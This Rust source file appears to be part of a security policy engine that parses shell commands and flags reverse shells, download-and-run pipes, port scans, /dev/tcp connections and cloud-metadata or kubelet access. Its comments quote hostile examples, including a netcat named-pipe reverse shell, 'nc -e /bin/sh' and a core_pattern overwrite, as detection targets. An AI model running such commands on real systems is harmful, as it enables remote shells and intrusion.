//! Command detection: runs the shell analyser over an argv, then matches every program, path,
//! network destination and inline script it found against the policy's catalogues.

use super::budget::Budget;
use super::catalogue::{ExecCatalogue, HashSet};
use super::net::{destinations, Destination};
use super::paths::path_candidates;
use super::shell::{analyse, Analysis, Invocation};
use super::{shorten, Signals};
use crate::norm::host::HostKey;

/// Detects what an argv does. `stdin` is true for exec requests with stdin attached: a bare shell
/// then is interactive.
pub fn detect(
    exec: &ExecCatalogue,
    argv: &[String],
    stdin: bool,
    budget: &Budget,
    out: &mut Signals,
) {
    let analysis = analyse(exec, argv, budget);
    raise_analysis(exec, &analysis, stdin, out);
}

fn raise_analysis(exec: &ExecCatalogue, analysis: &Analysis, stdin: bool, out: &mut Signals) {
    if let Some(why) = &analysis.limit {
        out.raise(super::ANALYSIS_LIMIT_RULE, why.clone());
    }
    if !analysis.obfuscation.is_empty() {
        out.raise("exec-obfuscation", analysis.obfuscation.join("; "));
    }
    for payload in &analysis.payloads {
        out.raise("exec-encoded-payload", payload.clone());
    }
    let mut checked = CheckedPaths::default();
    for inv in &analysis.invocations {
        invocation(exec, inv, stdin, &mut checked, out);
    }
    for code in &analysis.code {
        inline_code(exec, code, out);
    }
    for script in &analysis.scripts {
        markers(exec, script, out);
    }
}

/// The command as a finding quotes it: its first 80 characters.
pub(super) fn describe(inv: &Invocation) -> String {
    const SHOWN: usize = 80;
    let mut text = inv.program.clone();
    for a in &inv.args {
        // Enough text for `shorten` to cut; never the whole argv.
        if text.len() > SHOWN * 4 {
            break;
        }
        text.push(' ');
        text.push_str(a.get(..SHOWN * 4).unwrap_or(a));
    }
    format!("`{}`", shorten(&text, SHOWN))
}

/// Texts already matched against the path catalogues in this analysis. A wrapper's arguments
/// are the wrapped command's too (`timeout 60 nmap ARGS` and `nmap ARGS`), and a path finding
/// names only the path, so each text is matched once.
#[derive(Default)]
struct CheckedPaths<'a> {
    named: HashSet<&'a str>,
    written: HashSet<&'a str>,
}

fn invocation<'a>(
    exec: &ExecCatalogue,
    inv: &'a Invocation,
    stdin: bool,
    checked: &mut CheckedPaths<'a>,
    out: &mut Signals,
) {
    let plain_args = || {
        inv.args
            .iter()
            .enumerate()
            .filter(|(i, _)| inv.script_arg != Some(*i))
            .map(|(_, a)| a)
    };
    // `docker --version`, `nmap -h`: a version or usage line, not a use of the program.
    let only_lookup =
        !inv.args.is_empty() && inv.args.iter().all(|a| exec.lookup_arguments.contains(a));
    if let Some(entries) = exec.programs.get(&inv.program).filter(|_| !only_lookup) {
        for entry in entries {
            if entry.without_args && !inv.args.is_empty() {
                continue;
            }
            if let Some(set) = &entry.when_args {
                if !inv.args.iter().any(|a| set.is_match(a)) {
                    continue;
                }
            }
            out.raise(&entry.rule, describe(inv));
        }
    }

    for text in plain_args().chain(&inv.redirects) {
        if checked.named.insert(text) {
            paths(exec, text, out);
        }
    }
    // `echo '|/tmp/x' > core_pattern`, `... | tee /proc/sys/kernel/core_pattern`: written.
    let writer = exec.writers.contains(&inv.program);
    for text in plain_args().filter(|_| writer).chain(&inv.redirects) {
        if checked.written.insert(text) {
            written_paths(exec, text, out);
        }
    }
    // `cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f`, `nc -l 4444 | sh`: a shell whose
    // input or output is a network connection.
    if let Some(next) = &inv.pipes_into {
        let shell = |p: &str| exec.shells.contains(p);
        let relay = |p: &str| exec.shell_relays.contains(p);
        // The shell must read its commands from the pipe (no `-c` script): `sh -c 'cat f' | nc`
        // sends a file, `cat /tmp/f | sh -i | nc` serves a shell.
        let bare_shell = shell(&inv.program) && inv.interactive;
        // `nc -l 4444 | sudo sh`: a wrapper's shell reads the connection too.
        let shell_reads = shell(next) || exec.wrappers.contains_key(next.as_str());
        if (bare_shell && relay(next))
            || (relay(&inv.program) && shell_reads && inv.pipe_runs_input)
        {
            out.raise(
                "exec-reverse-shell",
                format!("{} piped into {next}", describe(inv)),
            );
        }
    }
    if let Some(search) = &exec.credential_search {
        super::search::detect(search, inv, out);
    }
    if let Some(toolkits) = &exec.toolkits {
        super::toolkit::detect(exec, toolkits, inv, out);
    }
    if let Some(api) = &exec.kubernetes_api {
        super::kube_api::client_verbs(api, inv, out);
    }

    let client = exec.network_clients.contains(&inv.program)
        || exec.netcat.contains(&inv.program)
        || exec.socat.contains(&inv.program)
        || exec.downloaders.contains(&inv.program);
    // `nslookup kubernetes.default` resolves a name; it reaches nothing.
    let connects = !exec.non_connecting.contains(&inv.program);
    // `for p in $(seq 1 1024); do curl telnet://h:$p; done`, `for i in $(seq 254); do ping -c1
    // 10.0.0.$i; done`: a client, or a ping or lookup, over destinations the loop changes is a
    // scan or a sweep, whichever program it is. `until wget -q $SVC; do sleep 2; done` asks one
    // destination until it answers: a retry, not a scan.
    if (client || !connects) && inv.in_loop {
        if let Some(arg) = plain_args().find(|a| varying_destination(a, &inv.loop_variables)) {
            out.raise(
                "exec-network-scan",
                format!(
                    "{} in a loop over changing destinations ({})",
                    describe(inv),
                    shorten(arg, 40)
                ),
            );
        }
    }
    if client && connects {
        if let Some(api) = &exec.kubernetes_api {
            super::kube_api::client_requests(api, inv, out);
        }
    }
    // A server or an agent given an address (`etcd --listen-client-urls=http://0.0.0.0:2379`,
    // `vault write ... kubernetes_host=https://kubernetes.default`) is being configured: it is
    // not reaching the API server or a node port from this command line. The metadata service
    // counts wherever it is named.
    let reaches = client || exec.interpreters.contains(&inv.program);
    for arg in plain_args().filter(|_| connects) {
        for dest in destinations(arg, client) {
            if reaches {
                destination(exec, &dest, &|| describe(inv), out);
            } else {
                metadata(exec, &dest, &|| describe(inv), out);
            }
        }
        let names = |variables: &[String]| {
            variables_named(arg).any(|name| variables.iter().any(|v| v == name))
        };
        if client && names(&exec.api_server_variables) {
            out.raise("exec-apiserver-access", describe(inv));
        }
        if client && names(&exec.metadata_variables) {
            out.raise(
                "exec-cloud-metadata",
                format!("{} names a metadata endpoint variable", describe(inv)),
            );
        }
        // `curl -k https://$NODE_IP:10250/pods`: the host is unknown, the port says enough.
        if client && arg.contains('$') {
            for port in super::net::ports_of_unknown_hosts(arg) {
                let what = || describe(inv);
                node_port(exec, port, "a host held in a variable", &what, out);
            }
        }
    }

    for target in inv.redirects.iter().chain(plain_args()) {
        if let Some(dev) = DevTcp::parse(target) {
            dev_tcp(exec, inv, &dev, out);
        }
    }

    if exec.netcat.contains(&inv.program) {
        netcat(exec, inv, out);
    }
    if exec.socat.contains(&inv.program)
        && inv.args.iter().any(|a| {
            exec.socat_shell_addresses.is_match(a)
                && runs_a_shell(exec, a.split_once(':').map_or("", |(_, rest)| rest))
        })
    {
        out.raise("exec-reverse-shell", describe(inv));
    } else if exec.socat.contains(&inv.program)
        && inv
            .args
            .iter()
            .any(|a| exec.socat_listen_addresses.is_match(a.to_lowercase()))
    {
        out.raise("exec-listener", describe(inv));
    }
    if exec.downloaders.contains(&inv.program) && inv.pipe_runs_input {
        if let Some(next) = &inv.pipes_into {
            // `| sudo bash -s`, `| timeout 60 sh`: the wrapper's shell reads the download.
            if exec.shells.contains(next)
                || exec.interpreters.contains(next)
                || exec.wrappers.contains_key(next)
            {
                out.raise(
                    "exec-remote-script",
                    format!("{} piped into {next}", describe(inv)),
                );
            }
        }
    }
    if inv.interactive && stdin {
        out.raise(
            "exec-interactive-shell",
            format!("`{}` reading stdin", inv.program),
        );
    }
}

/// Whether a command that a network tool runs for its peer is a shell or an interpreter (or
/// cannot be told): `/bin/sh`, `bash -i`, `python3`, `$SHELL`, `busybox sh`. socat's options after a comma
/// (`EXEC:/bin/bash,pty,stderr`) and quotes are not part of the program's name.
fn runs_a_shell(exec: &ExecCatalogue, command: &str) -> bool {
    // Quotes, as escapes: a quote character in a literal would unbalance tests/it/policy.rs's
    // reading of the sources' rule names.
    let command =
        command.trim_matches(|c: char| matches!(c, '\u{22}' | '\u{27}') || c.is_whitespace());
    let first = command
        .split(|c: char| c.is_whitespace() || c == ',')
        .next()
        .unwrap_or("");
    let name = first.rsplit('/').next().unwrap_or(first);
    // A wrapper (`busybox sh`, `env bash`, `timeout 9 sh`) runs what follows it: assume a shell.
    name.is_empty()
        || name.contains('$')
        || exec.wrappers.contains_key(name)
        || exec.shells.contains(name)
        || exec.interpreters.contains(name)
        || exec
            .interpreters
            .contains(name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.'))
}

/// A destination the loop changes: `$h`, `h:$p`, `telnet://10.0.0.$i:22/`, `${net}.1` where the
/// variable is one of `varying` (what the innermost loop changes), or a substitution. Without a
/// scheme only a bare host, `host:port` or port counts (not a path, not `file=@$f`).
fn varying_destination(arg: &str, varying: &[String]) -> bool {
    let authority = match arg.split_once("://") {
        Some((_, rest)) => rest.split('/').next().unwrap_or(rest),
        None if arg
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "$.:-_{}[]()".contains(c)) =>
        {
            arg
        }
        None => return false,
    };
    !arg.starts_with('-') && changes_with_loop(authority, varying)
}

/// Whether text names a variable the loop changes (`$i`, `${i}`) or a substitution (`$(...)`,
/// `$((...))`), whose value may change each time round.
fn changes_with_loop(text: &str, varying: &[String]) -> bool {
    text.contains("$(") || variables_named(text).any(|name| varying.iter().any(|v| v == name))
}

/// The variables a word expands, by name: `$NAME` and `${NAME...}` (`${NAME:-x}` names `NAME`).
/// Read in one pass, with no allocation: it runs for every argument of every command.
fn variables_named(text: &str) -> impl Iterator<Item = &str> {
    text.match_indices('$').filter_map(move |(i, _)| {
        let rest = &text[i + 1..];
        let rest = rest.strip_prefix('{').unwrap_or(rest);
        let end = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(rest.len());
        (end > 0).then(|| &rest[..end])
    })
}

fn paths(exec: &ExecCatalogue, text: &str, out: &mut Signals) {
    for candidate in path_candidates(text) {
        for rule in exec.paths.matching(&candidate) {
            out.raise(rule, format!("names {candidate}"));
        }
    }
}

fn written_paths(exec: &ExecCatalogue, text: &str, out: &mut Signals) {
    for candidate in path_candidates(text) {
        for rule in exec.written_paths.matching(&candidate) {
            out.raise(rule, format!("writes {candidate}"));
        }
    }
}

/// `what` describes the command, built only when a finding quotes it.
fn destination(
    exec: &ExecCatalogue,
    dest: &Destination,
    what: &dyn Fn() -> String,
    out: &mut Signals,
) {
    metadata(exec, dest, what, out);
    if exec.api_server_hosts.contains(&dest.host) {
        out.raise(
            "exec-apiserver-access",
            format!("{} reaches {}", what(), dest.host),
        );
    }
    if let Some(port) = dest.port {
        node_port(exec, port, &dest.host.to_string(), what, out);
    }
}

fn metadata(
    exec: &ExecCatalogue,
    dest: &Destination,
    what: &dyn Fn() -> String,
    out: &mut Signals,
) {
    let spelled = || {
        dest.host
            .embedded_ip(&exec.ip_embedding_domains)
            .is_some_and(|ip| exec.metadata_hosts.contains(&ip))
    };
    if exec.metadata_hosts.contains(&dest.host) || spelled() {
        out.raise(
            "exec-cloud-metadata",
            format!("{} reaches {}", what(), dest.host),
        );
    }
}

/// A port of the kubelet or of another control-plane or node service, on `host`.
fn node_port(
    exec: &ExecCatalogue,
    port: u16,
    host: &str,
    what: &dyn Fn() -> String,
    out: &mut Signals,
) {
    if exec.kubelet_ports.contains(&port) {
        out.raise(
            "exec-kubelet-access",
            format!("{} reaches port {port} on {host}", what()),
        );
    }
    if exec.control_plane_ports.contains(&port) {
        out.raise(
            "exec-control-plane-access",
            format!("{} reaches port {port} on {host}", what()),
        );
    }
}

/// Bash's `/dev/tcp/HOST/PORT` pseudo-device: a connection without any network tool.
struct DevTcp {
    host: String,
    port: String,
}

impl DevTcp {
    fn parse(text: &str) -> Option<DevTcp> {
        // Found by its `/` (a byte search) rather than a substring search set up per argument.
        let start = text
            .match_indices('/')
            .map(|(i, _)| i)
            .find(|&i| text[i..].starts_with("/dev/tcp/") || text[i..].starts_with("/dev/udp/"))?;
        let rest = &text[start + "/dev/tcp/".len()..];
        let (host, port) = rest.split_once('/')?;
        let port = port.split(|c: char| c.is_whitespace()).next().unwrap_or("");
        Some(DevTcp {
            host: host.to_string(),
            port: port.to_string(),
        })
    }
}

fn dev_tcp(exec: &ExecCatalogue, inv: &Invocation, dev: &DevTcp, out: &mut Signals) {
    let what = format!("/dev/tcp/{}/{}", dev.host, dev.port);
    let port: Option<u16> = dev.port.parse().ok();
    for dest in destinations(&dev.host, true) {
        destination(
            exec,
            &Destination {
                host: dest.host,
                port,
            },
            &|| what.clone(),
            out,
        );
    }
    let shell_redirected = exec.shells.contains(&inv.program)
        && (inv.interactive || inv.args.iter().any(|a| a == "-i" || a.starts_with("-i")));
    // `cat < /dev/tcp/HOST/PORT > tool`: what the connection sends is kept in a file.
    let saved = inv.redirects.iter().any(|r| {
        !r.contains("/dev/tcp/")
            && !r.contains("/dev/udp/")
            && !r.starts_with("/dev/")
            && !r.is_empty()
            && !r.chars().all(|c| c.is_ascii_digit() || c == '-')
    });
    if saved && !shell_redirected {
        out.raise(
            "exec-tool-transfer",
            format!("`{}` saves what {what} sends", inv.program),
        );
    }
    if shell_redirected {
        out.raise(
            "exec-reverse-shell",
            format!("`{} -i` redirected to {what}", inv.program),
        );
    } else if inv.in_loop && changes_with_loop(&what, &inv.loop_variables) {
        out.raise(
            "exec-network-scan",
            format!("{what} in a loop over changing ports or hosts"),
        );
    } else {
        out.raise("exec-port-probe", what);
    }
}

/// A port argument: `80`, `1-1024`, `22,80,443`.
fn port_count(arg: &str) -> Option<usize> {
    let mut total = 0usize;
    for part in arg.split(',') {
        if let Some((a, b)) = part.split_once('-') {
            let (a, b): (u32, u32) = (a.parse().ok()?, b.parse().ok()?);
            if b < a || b > 65535 {
                return None;
            }
            total += (b - a + 1) as usize;
        } else {
            let p: u32 = part.parse().ok()?;
            if p > 65535 {
                return None;
            }
            total += 1;
        }
    }
    Some(total)
}

fn netcat(exec: &ExecCatalogue, inv: &Invocation, out: &mut Signals) {
    let has_option = |options: &[String]| super::options::any_given(&inv.args, options);
    let listens = has_option(&exec.netcat_listen_options);
    // `nc -e /bin/sh`, `ncat -c 'bash -i'` hand the peer a shell; `ncat --listen 3307 -c
    // "xtrabackup --backup ..."` and `nc -l -e /bin/cat` serve one fixed program's output.
    if let Some(program) = super::options::value_of(&inv.args, &exec.netcat_exec_options) {
        if runs_a_shell(exec, program) {
            out.raise("exec-reverse-shell", describe(inv));
            return;
        }
    }
    if listens {
        out.raise("exec-listener", describe(inv));
    }
    let ports: usize = inv
        .args
        .iter()
        .filter(|a| !a.starts_with('-'))
        .filter_map(|a| port_count(a))
        .sum();
    // `nc -z $h 22` in a loop over hosts walks them; `until nc -z $DB 5432` waits for one port.
    let varying = inv.in_loop
        && inv
            .args
            .iter()
            .any(|a| !a.starts_with('-') && changes_with_loop(a, &inv.loop_variables));
    // `nc HOST PORT`, `telnet tiller-deploy.kube-system 44134`: the port is its own argument.
    for port in inv.args.iter().filter_map(|a| a.parse::<u16>().ok()) {
        node_port(exec, port, "its host", &|| describe(inv), out);
    }
    let scanning = has_option(&exec.netcat_scan_options);
    if ((scanning || inv.in_loop) && ports > 1) || varying {
        out.raise("exec-network-scan", describe(inv));
    } else if scanning {
        out.raise("exec-port-probe", describe(inv));
    }
}

fn inline_code(exec: &ExecCatalogue, code: &str, out: &mut Signals) {
    markers(exec, code, out);
    paths(exec, code, out);
    if let Some(api) = &exec.kubernetes_api {
        super::kube_api::code_requests(api, code, out);
    }
    if let Some(toolkits) = &exec.toolkits {
        super::toolkit::in_code(toolkits, code, out);
    }
    let what = || format!("inline code `{}`", shorten(code, 60));
    for dest in destinations(code, false) {
        destination(exec, &dest, &what, out);
    }
    if let Some(host) = quoted_hosts(code)
        .into_iter()
        .find(|h| exec.metadata_hosts.contains(h))
    {
        out.raise("exec-cloud-metadata", format!("{} names {host}", what()));
    }
}

fn markers(exec: &ExecCatalogue, code: &str, out: &mut Signals) {
    for marker in &exec.code_markers {
        if marker.all_of.iter().all(|m| code.contains(m.as_str())) {
            out.raise(
                &marker.rule,
                format!("inline code contains {}", marker.all_of.join(" + ")),
            );
        }
    }
}

/// Host names in quotes inside code (`requests.get("http://...")` is covered by URLs; this finds
/// `socket.connect(("169.254.169.254", 80))`).
fn quoted_hosts(code: &str) -> Vec<HostKey> {
    code.split(['"', '\''])
        .skip(1)
        .step_by(2)
        .filter_map(HostKey::parse_configured)
        // A bare word in quotes is a dictionary key or a message, not a host.
        .filter(|h| matches!(h, HostKey::Ip(_)) || h.to_string().contains('.'))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn variables_are_named_in_both_spellings() {
        let named: Vec<&str> =
            variables_named("https://${KUBE_HOST:-x}:$PORT/$ $1x ${} $(id) $A_B").collect();
        assert_eq!(named, ["KUBE_HOST", "PORT", "1x", "A_B"]);
        assert!(changes_with_loop("10.0.0.$i", &["i".into()]));
        assert!(!changes_with_loop("$ip", &["i".into()]));
        assert!(changes_with_loop("${i}.x", &["i".into()]));
        assert!(changes_with_loop("$(next)", &[]));
    }
}
